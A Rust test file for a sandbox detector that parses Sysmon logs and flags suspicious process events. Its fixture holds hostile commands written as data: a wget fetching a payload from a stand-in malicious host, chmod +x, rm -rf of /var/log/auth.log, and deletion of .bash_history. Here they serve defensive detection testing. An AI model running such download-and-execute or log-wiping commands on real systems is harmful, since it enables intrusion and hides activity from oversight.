use sandbox::analysis::detect;
use sandbox::rule::{file_deleted_at, rm_is, wget_command_line_present, Code};
use sandbox::syslog::ingest;
use sandbox::sysmon::SysmonEventId;

fn event_line(stamp: &str, time: &str, body: &str) -> String {
    let mut line = String::new();
    line.push_str("Oct  4 ");
    line.push_str(stamp);
    line.push_str(" guest01 sysmon: <Event><System><EventID>");
    line.push_str(body.split_once('|').map(|(id, _)| id).unwrap_or("1"));
    line.push_str("</EventID><TimeCreated SystemTime=\"");
    line.push_str(time);
    line.push_str("\"/></System><EventData>");
    line.push_str(body.split_once('|').map(|(_, rest)| rest).unwrap_or(""));
    line.push_str("</EventData></Event>\n");
    line
}

fn field(name: &str, value: &str) -> String {
    let mut f = String::new();
    f.push_str("<Data Name=\"");
    f.push_str(name);
    f.push_str("\">");
    f.push_str(value);
    f.push_str("</Data>");
    f
}

fn sample_log() -> String {
    let mut text = String::new();
    text.push_str("Linux version 6.1.0 booted\n");
    text.push_str("Oct  4 11:59:58 guest01 kernel: [0.000000] random noise\n");
    let mut mkdir_body = String::from("1|");
    mkdir_body.push_str(&field("Image", "/rootfs/usr/bin/mkdir"));
    mkdir_body.push_str(&field("CommandLine", "mkdir /tmp/drop"));
    text.push_str(&event_line("12:00:01", "2023-10-04T12:00:01.123+09:00", &mkdir_body));
    let mut wget_body = String::from("1|");
    wget_body.push_str(&field("Image", "/rootfs/usr/bin/wget"));
    wget_body.push_str(&field("CommandLine", "wget http://malicious.example/payload"));
    text.push_str(&event_line("12:00:02", "2023-10-04T12:00:02Z", &wget_body));
    let mut chmod_body = String::from("1|");
    chmod_body.push_str(&field("Image", "/rootfs/usr/bin/chmod"));
    chmod_body.push_str(&field("CommandLine", "chmod +x payload"));
    text.push_str(&event_line("12:00:03", "2023-10-04T12:00:03Z", &chmod_body));
    let mut rm_body = String::from("1|");
    rm_body.push_str(&field("Image", "/rootfs/usr/bin/rm"));
    rm_body.push_str(&field("CommandLine", "rm -rf /var/log/auth.log"));
    text.push_str(&event_line("12:00:04", "2023-10-04T12:00:04Z", &rm_body));
    let mut del_body = String::from("23|");
    del_body.push_str(&field("TargetFilename", "/home/user/.bash_history"));
    text.push_str(&event_line("12:00:05", "2023-10-04T12:00:05Z", &del_body));
    text.push_str("Oct  4 12:00:06 guest01 sysmon: <Event>broken document\n");
    text.push_str("plain line without any preamble at all\n");
    text
}

#[test]
fn ingest_collects_only_matching_lines() {
    let text = sample_log();
    let entries = ingest(&text);
    assert_eq!(entries.len(), 5);
    assert_eq!(entries[0].sysmon_event.event_id, SysmonEventId::ProcessCreate);
    assert_eq!(entries[4].sysmon_event.event_id, SysmonEventId::FileDelete);
    assert!(entries[0].log.starts_with("Oct  4 12:00:01"));
}

#[test]
fn ingest_preserves_local_offset() {
    let text = sample_log();
    let entries = ingest(&text);
    let ts = entries[0].sysmon_event.time_created;
    assert_eq!(ts.year, 2023);
    assert_eq!(ts.month, 10);
    assert_eq!(ts.day, 4);
    assert_eq!(ts.hour, 12);
    assert_eq!(ts.minute, 0);
    assert_eq!(ts.second, 1);
    assert_eq!(ts.offset_minutes, 540);
    assert_eq!(entries[1].sysmon_event.time_created.offset_minutes, 0);
}

#[test]
fn ingest_twice_is_identical() {
    let text = sample_log();
    let first = ingest(&text);
    let second = ingest(&text);
    assert_eq!(first, second);
    assert!(wget_command_line_present(&first));
    let d1 = detect(&first);
    let d2 = detect(&second);
    assert_eq!(d1, d2);
}

#[test]
fn lines_without_preamble_contribute_nothing() {
    let entries = ingest("no preamble here\nstill nothing 12:00:01\n\n");
    assert_eq!(entries.len(), 0);
    let empty = ingest("");
    assert_eq!(empty.len(), 0);
}

#[test]
fn malformed_document_skips_only_that_line() {
    let mut text = String::from("Oct  4 12:00:06 guest01 sysmon: <Event>broken document\n");
    let mut body = String::from("1|");
    body.push_str(&field("Image", "/bin/true"));
    text.push_str(&event_line("12:00:07", "2023-10-04T12:00:07Z", &body));
    let entries = ingest(&text);
    assert_eq!(entries.len(), 1);
    assert_eq!(
        entries[0].sysmon_event.event_data.get("Image"),
        Some(String::from("/bin/true"))
    );
}

#[test]
fn ingest_handles_crlf_line_endings() {
    let mut body = String::from("1|");
    body.push_str(&field("Image", "/bin/true"));
    let mut text = event_line("12:00:07", "2023-10-04T12:00:07Z", &body);
    text.pop();
    text.push_str("\r\nnoise\r\n");
    let entries = ingest(&text);
    assert_eq!(entries.len(), 1);
    assert!(!entries[0].log.ends_with('\r'));
}

#[test]
fn detect_emits_rules_in_order() {
    let text = sample_log();
    let entries = ingest(&text);
    assert!(wget_command_line_present(&entries));
    let detections = detect(&entries);
    assert_eq!(detections.len(), 4);
    assert_eq!(detections[0].code, Code::Mkdir);
    assert_eq!(detections[0].reason_for_detection, "Created mkdir process");
    assert_eq!(detections[1].code, Code::Wget);
    assert_eq!(
        detections[1].reason_for_detection,
        "Created wget process (Command Line: wget http://malicious.example/payload)"
    );
    assert_eq!(detections[2].code, Code::Chmod);
    assert_eq!(detections[2].reason_for_detection, "Created chmod process");
    match &detections[3].code {
        Code::Rm(args) => {
            assert_eq!(args.len(), 2);
            assert_eq!(args[0], "-rf");
            assert_eq!(args[1], "/var/log/auth.log");
        }
        other => panic!("expected an Rm payload, got {:?}", other),
    }
}

#[test]
fn rm_rule_payload_drops_program_token() {
    let text = sample_log();
    let entries = ingest(&text);
    let rm_hits = sandbox::rule::rm(&entries);
    assert_eq!(rm_hits.len(), 1);
    assert_eq!(
        rm_hits[0].code,
        Code::Rm(vec![String::from("-rf"), String::from("/var/log/auth.log")])
    );
    assert!(rm_is(&rm_hits, "/var/log"));
    assert!(!rm_is(&rm_hits, "~/.bash_history"));
}

#[test]
fn file_delete_target_matches_by_substring() {
    let text = sample_log();
    let entries = ingest(&text);
    let hits = sandbox::rule::event_id_23(&entries);
    assert_eq!(hits.len(), 1);
    assert_eq!(
        hits[0].code,
        Code::FileDelete(String::from("/home/user/.bash_history"))
    );
    assert_eq!(hits[0].reason_for_detection, "File deleted");
    assert!(!file_deleted_at(&hits, "~/.bash_history"));
    assert!(file_deleted_at(&hits, ".bash_history"));
}

#[test]
fn wget_precondition_detected_when_command_line_missing() {
    let mut body = String::from("1|");
    body.push_str(&field("Image", "/rootfs/usr/bin/wget"));
    let text = event_line("12:00:02", "2023-10-04T12:00:02Z", &body);
    let entries = ingest(&text);
    assert_eq!(entries.len(), 1);
    assert!(!wget_command_line_present(&entries));
}
